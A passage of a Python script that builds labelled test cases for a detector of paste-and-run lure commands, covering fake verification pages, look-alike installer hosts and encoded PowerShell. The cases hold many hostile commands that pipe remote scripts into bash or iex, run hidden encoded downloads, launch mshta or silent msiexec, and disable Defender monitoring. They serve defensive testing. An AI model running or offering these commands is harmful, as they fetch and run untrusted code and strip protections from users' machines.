    out: list[dict[str, str]] = []
    # the same installers from pages about something else, into a terminal: still flagged
    for n, (owner, repo, branch, _prog) in enumerate(GITHUB[:8], start=1):
        page = UNRELATED_PAGES[n % len(UNRELATED_PAGES)]
        raw = f"https://raw.githubusercontent.com/{owner}/{repo}/{branch}"
        out.append(case(f"dv-lure-unrelated-gh-{n}", f"curl -fsSL {raw}/install.sh | bash",
                        "flagged", LURE, "linux", page, "terminal"))  # fmt: skip
    # a tutorial-shaped page naming a product, the script from a stranger's host
    for n, (brand, _site, _path, _script, _prog) in enumerate(VENDORS[:8], start=1):
        page = TUTORIAL_PAGES[n % len(TUTORIAL_PAGES)].replace("{p}", brand).replace("{P}", brand)
        out += [
            case(f"dv-lure-tut-stranger-{n}", f"curl -fsSL https://cdn-files{n}.example/{brand}/install.sh | bash",
                 "flagged", LURE, "linux", page, "terminal"),
            case(f"dv-lure-tut-lookalike-{n}", f"curl -fsSL https://{brand}-install.example/install.sh | bash",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"dv-lure-tut-http-{n}", f"curl -fsSL http://get.{brand}.example/install.sh | bash",
                 "flagged", LURE, "linux", page, "terminal"),
            case(f"dv-lure-tut-runbox-{n}", f"irm https://get.{brand}.example/install.ps1 | iex",
                 "malicious", LURE, "windows", page, "run_dialog"),
            case(f"dv-lure-tut-trait-{n}",
                 f"curl -fsSL https://get.{brand}.example/install.sh | bash >/dev/null 2>&1; clear  # verification ID 48213",
                 "malicious", LURE, "linux", page, "terminal"),
        ]  # fmt: skip
    # the same installers from pages about something else: blocked (PG-PAGE-OFF-TOPIC)...
    for n, (_brand, _site, _path, script, _prog) in enumerate(VENDORS, start=1):
        page = UNRELATED_PAGES[n % len(UNRELATED_PAGES)]
        out.append(case(f"dv-lure-off-topic-{n}", f"curl -fsSL {script} | sh", "malicious", LURE,
                        "linux", page, "terminal"))  # fmt: skip
    for n, (_brand, _site, _path, host, _product) in enumerate(WIN_VENDORS, start=1):
        page = UNRELATED_PAGES[(n + 3) % len(UNRELATED_PAGES)]
        out.append(case(f"dv-lure-off-topic-ps-{n}", f"irm https://{host}/install.ps1 | iex",
                        "malicious", LURE, "windows", page, "terminal"))  # fmt: skip
    # the same installers from a compromised page into the Run box or Explorer's address bar
    for n, (_brand, site, _path, host, product) in enumerate(WIN_VENDORS, start=1):
        page = UNRELATED_PAGES[(n + 5) % len(UNRELATED_PAGES)]
        out += [
            case(f"dv-lure-run-box-{n}", f"powershell -c \"irm https://{host}/install.ps1 | iex\"",
                 "malicious", LURE, "windows", page, "run_dialog"),
            case(f"dv-lure-explorer-bar-{n}", f"msiexec /i https://{host}/{product}-x64.msi /qn",
                 "malicious", LURE, "windows", page, "explorer_bar"),
            # even from the vendor's own page: nothing legitimate asks for a command there
            case(f"dv-lure-run-box-own-{n}", f"irm https://{host}/install.ps1 | iex",
                 "malicious", LURE, "windows", f"https://{site}/install", "run_dialog"),
        ]  # fmt: skip
    # ...but from a developer's page that does not name the product (a question on something
    # else, a homelab post, a forum thread), a warning and never a block
    dev_pages = [
        "https://stackoverflow.com/questions/79011223/permission-denied-when-piping-to-sh",
        "https://janedoe.example/2025/05/12/my-homelab-rebuild",
        "https://forum.selfhosters.example/t/what-do-you-run-at-home/8812",
        "https://unix.stackexchange.com/questions/712345/why-does-curl-pipe-to-bash-hang",
    ]
    for n, (_brand, _site, _path, script, _prog) in enumerate(VENDORS[:8], start=1):
        out.append(case(f"dv-dev-page-unnamed-{n}", f"curl -fsSL {script} | sh", "suspicious",
                        LURE, "linux", dev_pages[n % len(dev_pages)], "terminal"))  # fmt: skip
    # an installer service's name inside someone else's host
    for n, host in enumerate(
        ["webi.sh.cdn-files.example", "webi-sh.example", "webinstal.dev"], start=1
    ):
        out.append(case(f"dv-lure-webi-lookalike-{n}", f"curl -sS https://{host}/k9s | bash",
                        "flagged", MASQUERADE, "linux",
                        TUTORIAL_PAGES[n].replace("{p}", "k9s"), "terminal"))  # fmt: skip
    # a page about a known publisher's tool does not vouch for someone else's copy of it
    out += [
        case("dv-lure-known-fork-1",
             '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/homebrew-installer/homebrew/HEAD/install.sh)"',
             "flagged", MASQUERADE, "macos", "https://dev.to/x/how-to-install-homebrew-on-macos", "terminal"),
        case("dv-lure-known-fork-2",
             'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh-team/ohmyzsh/master/tools/install.sh)"',
             "flagged", MASQUERADE, "macos", "https://medium.com/@a/setting-up-ohmyzsh-fast-1a2b", "terminal"),
        case("dv-lure-other-repo-1",
             "curl -fsSL https://raw.githubusercontent.com/quietmoth/mothball-helper/main/install.sh | bash",
             "flagged", LURE, "linux", TUTORIAL_PAGES[0].replace("{p}", "mothball"), "terminal"),
        case("dv-lure-other-repo-2",
             "curl -fsSL https://raw.githubusercontent.com/someone/tools/main/mothball.sh | bash",
             "flagged", LURE, "linux", TUTORIAL_PAGES[1].replace("{p}", "mothball"), "terminal"),
        case("dv-lure-check-page-names-product",
             "curl -fsSL https://get.tern.dev | sh",
             "flagged", LURE, "linux", "https://captcha-gate.example/verify-human/tern", "terminal"),
    ]  # fmt: skip
    # encoded PowerShell: read-only is info; anything else in it, or a hidden window, counts
    enc = "RwBlAHQALQBEAGEAdABlAA=="  # Get-Date
    download = (
        "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACAAfAAgAGkAZQB4AA=="
    )
    out += [
        case("dv-lure-enc-hidden", f"powershell -w hidden -enc {enc}", "malicious", LURE,
             "windows", UNRELATED_PAGES[3], "terminal"),
        case("dv-lure-enc-download", f"powershell -NoProfile -EncodedCommand {download}",
             "malicious", LURE, "windows", UNRELATED_PAGES[4], "terminal"),
        case("dv-lure-enc-download-bare", f"pwsh -enc {download}", "malicious", LURE, "windows",
             "", "unknown"),
        case("dv-lure-enc-runbox", f"powershell -enc {enc}", "malicious", LURE, "windows",
             UNRELATED_PAGES[5], "run_dialog"),
        case("dv-enc-reads-bare", f"powershell -enc {enc}", "info", "benign-admin", "windows", "",
             "unknown"),
        case("dv-lure-enc-built-download",
             "$command = 'iwr https://198.51.100.7/a | iex'\n"
             "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
             "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded",
             "malicious", LURE, "windows", UNRELATED_PAGES[2], "terminal"),
        case("dv-lure-enc-built-writes",
             "$command = 'Set-MpPreference -DisableRealtimeMonitoring $true'\n"
             "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
             "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded",
             "malicious", LURE, "windows", UNRELATED_PAGES[3], "terminal"),
        case("dv-lure-enc-unc-read", "powershell -enc "
             + "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAXABcAGYAaQBsAGUAcwAuAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAFwAcwBcAHgALgB0AHgAdAA=",
             "malicious", LURE, "windows", UNRELATED_PAGES[1], "terminal"),
        case("dv-lure-enc-nested",
             "powershell -enc " + "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABSAHcAQgBsAEEASABRAEEATABRAEIARQBBAEcARQBBAGQAQQBCAGwAQQBBAD0APQA=",
             "flagged", LURE, "windows", "", "unknown"),
    ]  # fmt: skip
    # pasted into an editor nothing runs, but a lure's disguise is still worth saying
    out.append(case("dv-lure-editor-padded",
                    f"curl -fsSL https://cdn-files9.example/i.sh | bash {' ' * 40}# I am not a robot - Verification ID 2291",
                    "flagged", LURE, "macos", UNRELATED_PAGES[6], "other"))  # fmt: skip
    # a defanged address turned live by the command itself is live
    out.append(case("dv-lure-refanged",
                    "iex (irm ('hxxps://cdn-files8.example/a.ps1'.Replace('xx','tt')))",
                    "malicious", LURE, "windows", UNRELATED_PAGES[7], "terminal"))  # fmt: skip
    out.append(case("dv-lure-defanged-runbox", "mshta hxxps://verify-cdn[.]example/a.hta",
                    "malicious", LURE, "windows", UNRELATED_PAGES[0], "run_dialog"))  # fmt: skip
    # a fake check or fix page serving its own script vouches for nothing...
    own_fakes = [
        (
            "https://teams-meeting-audio.example/join/4471",
            "https://teams-meeting-audio.example/a.ps1",
        ),
        ("https://chrome-update-fix.example/", "https://chrome-update-fix.example/fix.ps1"),
        (
            "https://metamask-support-desk.example/ticket",
            "https://metamask-support-desk.example/s.ps1",
        ),
        ("https://human-check.example/verify", "https://human-check.example/v.ps1"),
        ("https://zoom-video-repair.example/mac", "https://zoom-video-repair.example/r.ps1"),
    ]
    for n, (page, script) in enumerate(own_fakes, start=1):
        out.append(case(f"dv-lure-own-fake-{n}", f"irm {script} | iex", "malicious", LURE,
                        "windows", page, "terminal"))  # fmt: skip
        sh = script.rsplit(".", 1)[0] + ".sh"
        out.append(case(f"dv-lure-own-fake-sh-{n}", f"curl -fsSL {sh} | bash", "malicious", LURE,
                        "macos", page, "terminal"))  # fmt: skip
    # ...while a tool named after a platform still vouches for its own script
    named_after = [
        ("https://slack-notify.example/docs/install", "https://get.slack-notify.example"),
        ("https://outlook-mailmerge.example/", "https://outlook-mailmerge.example/install.sh"),
        (
            "https://docs.discord-webhooks.example/cli",
            "https://discord-webhooks.example/install.sh",
        ),
        (
            "https://teams-for-linux.example/download",
            "https://dl.teams-for-linux.example/install.sh",
        ),
    ]
    for n, (page, script) in enumerate(named_after, start=1):
        out.append(ok(f"dv-own-named-after-{n}", f"curl -fsSL {script} | sh", "own-page", "linux",
                      page))  # fmt: skip
    # defanged text beside a live command: the live command is judged
    out += [
        case("dv-lure-ioc-live-1", "IOCs: hxxps://evil[.]test/a\nmshta https://203.0.113.50/fix.hta",
             "malicious", LURE, "windows", UNRELATED_PAGES[0], "run_dialog"),
        case("dv-lure-ioc-live-2", "# ref hxxp://x[.]test\ncurl -fsSL https://203.0.113.51/s | bash",
             "malicious", LURE, "linux", UNRELATED_PAGES[1], "terminal"),
        case("dv-lure-ioc-live-3", "powershell -w hidden -c \"iwr https://198.51.100.9/p.ps1 | iex\"  # hxxps://decoy[.]test",
             "malicious", LURE, "windows", UNRELATED_PAGES[2], "run_dialog"),
    ]  # fmt: skip
    return out


def build() -> list[dict[str, str]]:
    cases = (
        github_own_page()
        + forge_own_page()
        + vendor_own_page()
        + package_managers()
        + package_hosts()
        + tutorials()
        + admin_commands()
        + devops()
        + console_snippets()
        + ioc_writeups()
        + office_run_box()
        + lures()
    )
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
